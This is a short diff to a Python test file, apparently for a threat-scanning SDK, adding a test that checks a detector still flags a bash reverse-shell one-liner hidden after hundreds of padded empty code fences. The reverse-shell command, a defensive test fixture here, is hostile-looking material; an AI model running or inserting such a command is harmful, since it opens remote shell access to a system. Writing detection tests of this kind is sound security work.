@@ -203,3 +203,8 @@ def test_truncation_info_parses_with_sdk() -> None:
     (dr,) = sdk.ThreatScanReportObject.from_dict(report).detection_results
     info = dr.result_detail.mc_report.truncation_info
     assert (info.payload_truncated, info.truncated_payload_length) == (True, 10)
+
+
+def test_fence_padding_does_not_hide_code() -> None:
+    padded = "```\n```\n" * 1500 + "bash -i >& /dev/tcp/203.0.113.7/1 0>&1\n"
+    assert _detect(padded).detected
